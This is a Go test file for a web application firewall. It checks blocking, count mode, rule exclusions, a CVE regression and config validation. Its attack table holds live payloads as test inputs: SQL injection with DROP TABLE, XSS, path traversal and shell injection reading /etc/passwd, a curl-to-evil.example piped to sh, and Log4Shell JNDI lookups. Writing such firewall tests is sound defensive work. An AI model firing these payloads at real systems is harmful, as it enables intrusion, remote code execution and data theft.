package waf

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"

	"github.com/decagon/decagon/internal/problem"
	"github.com/decagon/decagon/internal/web"

	"github.com/decagon/decagon/internal/topology"
)

// attacks are the classic attacks the issue names; each must be refused on any route.
var attacks = []struct {
	name string
	rq   request
}{
	{"sqli query", request{target: "/test?id=1%27%20OR%20%271%27%3D%271"}},
	{"sqli union", request{target: "/test?cursor=1%20UNION%20SELECT%20password%20FROM%20users--"}},
	{"sqli json body", request{method: "POST", target: "/test", contentType: "application/json",
		body: `{"name":"x' OR 1=1; DROP TABLE tests;--","data":{}}`}},
	{"xss query", request{target: "/test?cursor=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"}},
	{"xss json body", request{method: "POST", target: "/test", contentType: "application/json",
		body: `{"name":"<img src=x onerror=alert(1)>","data":null}`}},
	{"path traversal", request{target: "/upload/..%2f..%2f..%2fetc%2fpasswd"}},
	{"path traversal query", request{target: "/test?cursor=../../../../etc/passwd"}},
	{"shell injection", request{target: "/test?cursor=%3Bcat%20%2Fetc%2Fpasswd"}},
	{"shell injection body", request{method: "POST", target: "/test", contentType: "application/json",
		body: `{"name":"a","data":{"cmd":"; /bin/bash -c 'curl http://evil.example/x | sh'"}}`}},
	{"log4shell header", request{target: "/health-check", header: map[string]string{"X-Api-Version": "${jndi:ldap://evil.example/a}"}}},
	{"log4shell user agent", request{target: "/test", header: map[string]string{"User-Agent": "${jndi:ldap://evil.example/a}"}}},
	{"scanner user agent", request{target: "/test", header: map[string]string{"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}}},
	{"nikto", request{target: "/", header: map[string]string{"User-Agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"}}},
}

func TestBlockMode(t *testing.T) {
	s := newStack(t, shipped())
	for i, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			rec := s.do(t, a.rq)
			if rec.Code != http.StatusForbidden {
				t.Fatalf("status %d, want 403", rec.Code)
			}
			if ct := rec.Header().Get("Content-Type"); ct != problem.ContentType {
				t.Errorf("content type %q", ct)
			}
			var body map[string]any
			if err := json.Unmarshal(rec.Body.Bytes(), &body); err != nil {
				t.Fatalf("body %q: %v", rec.Body, err)
			}
			id := rec.Header().Get(web.HeaderRequestID)
			want := map[string]any{"type": "about:blank", "title": "Forbidden", "status": float64(403), "request_id": id}
			// The detail names the rules that matched with their messages, the deciding one
			// last: the first is a detection, not only the anomaly evaluation.
			detail, _ := body["detail"].(string)
			if !readableDetail.MatchString(detail) {
				t.Errorf("detail %q: want the detection rules with their messages, then 949110/949111", detail)
			}
			delete(body, "detail")
			if id == "" || len(body) != len(want) {
				t.Fatalf("problem %v, want exactly %v", body, want)
			}
			for k, v := range want {
				if body[k] != v {
					t.Errorf("problem %s = %v, want %v", k, body[k], v)
				}
			}
			if hits, _, _ := s.backend.state(); hits != 0 {
				t.Errorf("backend reached %d times", hits)
			}
			recs := s.logs.records(t)
			if len(recs) != i+1 {
				t.Fatalf("%d log records, want %d", len(recs), i+1)
			}
			l := recs[i]
			if l["action"] != "BLOCK" || l["terminatingRuleType"] != "MANAGED_RULE_GROUP" {
				t.Errorf("log %v", l)
			}
			if tr := l["terminatingRuleId"]; tr != "949110" && tr != "949111" {
				t.Errorf("terminatingRuleId %v, want the CRS anomaly evaluation", tr)
			}
			if ids, _ := l["matchedRuleIds"].([]any); len(ids) < 2 {
				t.Errorf("matchedRuleIds %v: want the detection rules and the evaluation", l["matchedRuleIds"])
			}
			if mr, _ := l["matchedRules"].([]any); len(mr) < 2 || mr[0].(map[string]any)["msg"] == "" {
				t.Errorf("matchedRules %v: want each rule with its message", l["matchedRules"])
			}
			if reason, _ := l["reason"].(string); "refused by the web application firewall: "+reason != detail {
				t.Errorf("log reason %q, want the problem's detail %q", reason, detail)
			}
			if score, _ := l["anomalyScore"].(float64); score < 5 {
				t.Errorf("anomalyScore %v", l["anomalyScore"])
			}
			hr, _ := l["httpRequest"].(map[string]any)
			if hr["requestId"] != id || hr["clientIp"] != "192.0.2.1" || hr["httpMethod"] != methodOf(a.rq) {
				t.Errorf("httpRequest %v", hr)
			}
		})
	}
	if st := s.waf.Stats(); st != (Stats{Blocked: uint64(len(attacks))}) {
		t.Errorf("stats %+v", st)
	}
}

// readableDetail is a refusal's detail: "refused by the web application firewall: 941100 XSS
// Attack Detected via libinjection; ...; 949110 Inbound Anomaly Score Exceeded (Total Score: 5)".
var readableDetail = regexp.MustCompile(`^refused by the web application firewall: (?:[1-9]\d{3,5} [A-Za-z][^;]+; )+94911[01] Inbound Anomaly Score Exceeded`)

func methodOf(rq request) string {
	if rq.method == "" {
		return http.MethodGet
	}
	return rq.method
}

func TestCountMode(t *testing.T) {
	s := newStack(t, shipped(func(w *topology.WAF) { w.Mode = topology.ModeCount }))
	rec := s.do(t, attacks[0].rq)
	if rec.Code != http.StatusOK {
		t.Fatalf("status %d, want 200 in count mode", rec.Code)
	}
	if hits, _, _ := s.backend.state(); hits != 1 {
		t.Fatalf("backend hits %d", hits)
	}
	if rec := s.do(t, request{target: "/test?limit=10"}); rec.Code != http.StatusOK {
		t.Fatalf("clean request: status %d", rec.Code)
	}
	recs := s.logs.records(t)
	if len(recs) != 1 {
		t.Fatalf("%d log records, want 1 (the counted request only)", len(recs))
	}
	l := recs[0]
	if l["action"] != "ALLOW" || l["terminatingRuleId"] != "Default_Action" {
		t.Errorf("log %v", l)
	}
	nt, _ := l["nonTerminatingMatchingRules"].([]any)
	if len(nt) != 1 || nt[0].(map[string]any)["action"] != "COUNT" {
		t.Errorf("nonTerminatingMatchingRules %v", nt)
	}
	if st := s.waf.Stats(); st != (Stats{Allowed: 2, Counted: 1}) {
		t.Errorf("stats %+v", st)
	}
}

func TestExclusions(t *testing.T) {
	scanner := map[string]string{"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}
	tests := []struct {
		name       string
		exclusions []topology.Exclusion
		target     string
		want       int
	}{
		{"none", nil, "/upload/1", http.StatusForbidden},
		{"by id", []topology.Exclusion{{IDs: []int{913100}, Reason: "test"}}, "/test", http.StatusOK},
		{"by other id", []topology.Exclusion{{IDs: []int{942100}}}, "/test", http.StatusForbidden},
		{"by path, matching", []topology.Exclusion{{IDs: []int{913100}, Paths: []string{"/upload", "/upload/*"}}}, "/upload/1", http.StatusOK},
		{"by path, exact", []topology.Exclusion{{IDs: []int{913100}, Paths: []string{"/upload", "/upload/*"}}}, "/upload", http.StatusOK},
		{"by path, other path", []topology.Exclusion{{IDs: []int{913100}, Paths: []string{"/upload/*"}}}, "/test", http.StatusForbidden},
		{"by path, prefix is not a match", []topology.Exclusion{{IDs: []int{913100}, Paths: []string{"/upload/*"}}}, "/uploads", http.StatusForbidden},
		{"by path, one char", []topology.Exclusion{{IDs: []int{913100}, Paths: []string{"/test/?"}}}, "/test/a", http.StatusOK},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := newStack(t, shipped(func(w *topology.WAF) { w.Exclusions = tt.exclusions }))
			if rec := s.do(t, request{target: tt.target, header: scanner}); rec.Code != tt.want {
				t.Errorf("status %d, want %d", rec.Code, tt.want)
			}
			// An exclusion of one rule leaves the others on: XSS is still refused.
			if rec := s.do(t, request{target: tt.target + "?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"}); rec.Code != http.StatusForbidden {
				t.Errorf("xss with exclusion: status %d", rec.Code)
			}
		})
	}
}

// TestCVE202529914: a path starting with "//" must not hide its query string from the rules
// (Coraza < 3.3.3 parsed it as a scheme-relative URL, the path as a host).
func TestCVE202529914(t *testing.T) {
	s := newStack(t, shipped())
	for _, target := range []string{
		"//test?id=1%27%20OR%20%271%27%3D%271",
		"//evil.example/test?x=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
		"///test?cmd=%3Bcat%20%2Fetc%2Fpasswd",
	} {
		if rec := s.do(t, request{target: target}); rec.Code != http.StatusForbidden {
			t.Errorf("%s: status %d, want 403", target, rec.Code)
		}
	}
	if rec := s.do(t, request{target: "//test?limit=10"}); rec.Code != http.StatusOK {
		t.Errorf("clean // request: status %d", rec.Code)
	}
}

// TestConfigErrors: New refuses a WAF that topology's validation refuses (the one set of
// rules, run again for values built in Go), naming the key.
func TestConfigErrors(t *testing.T) {
	tests := []struct {
		name string
		f    func(w *topology.WAF)
		want string
	}{
		{"mode", func(w *topology.WAF) { w.Mode = "drop" }, "waf.mode"},
		{"paranoia", func(w *topology.WAF) { w.ParanoiaLevel = 5 }, "waf.paranoiaLevel"},
		{"threshold", func(w *topology.WAF) { w.AnomalyThreshold = -1 }, "waf.anomalyThreshold"},
		{"rate limit", func(w *topology.WAF) { w.RateLimit.Limit = 9 }, "waf.rateLimit.limit"},
		{"rate window", func(w *topology.WAF) { w.RateLimit.Window = 90e9 }, "60s, 120s, 300s or 600s"},
		{"oversize", func(w *topology.WAF) { w.Body.JSON.Oversize = "DROP" }, "waf.body.json.oversize"},
		{"inspect limit", func(w *topology.WAF) { w.Body.Upload.InspectLimit = 0 }, "waf.body.upload.inspectLimit"},
		{"cidr", func(w *topology.WAF) { w.IPSets.Allow = []string{"10.0.0.0/33"} }, "allow[0]"},
		{"host bits", func(w *topology.WAF) { w.IPSets.Block = []string{"2001:db8::1/32"} }, "write 2001:db8::/32"},
		{"exclusion ids", func(w *topology.WAF) { w.Exclusions = []topology.Exclusion{{}} }, "at least one rule ID"},
		{"exclusion path", func(w *topology.WAF) { w.Exclusions = []topology.Exclusion{{IDs: []int{1}, Paths: []string{"test"}}} }, "ALB path pattern"},
		{"zero value", func(w *topology.WAF) { *w = topology.WAF{} }, "waf.mode"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := New(shipped(tt.f), nil)
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("error %v, want one containing %q", err, tt.want)
			}
		})
	}
}

// TestEdgeRequestID: behind the edge, the request ID is in the X-Request-Id header (the edge
// sets it before the WAF) rather than in web's context; the refusal carries it all the same,
// and Report tells the edge what happened.
func TestEdgeRequestID(t *testing.T) {
	var reported []string
	cfg := shipped()
	cfg.Report = func(r *http.Request, action, rule string) {
		reported = append(reported, action+" "+rule)
	}
	w, err := New(cfg, nil)
	if err != nil {
		t.Fatal(err)
	}
	r := httptest.NewRequest(http.MethodGet, "/test?id=1%27%20OR%20%271%27%3D%271", nil)
	r.Header.Set(web.HeaderRequestID, "edge-id-1")
	rec := httptest.NewRecorder()
	w.Middleware(http.NotFoundHandler()).ServeHTTP(rec, r)
	var p map[string]any
	if err := json.Unmarshal(rec.Body.Bytes(), &p); err != nil || rec.Code != http.StatusForbidden || p["request_id"] != "edge-id-1" {
		t.Fatalf("status %d problem %s", rec.Code, rec.Body)
	}
	if len(reported) != 1 || reported[0] != "BLOCK 942100 SQL Injection Attack Detected via libinjection; 949110 Inbound Anomaly Score Exceeded (Total Score: 5)" {
		t.Errorf("reported %v", reported)
	}
}
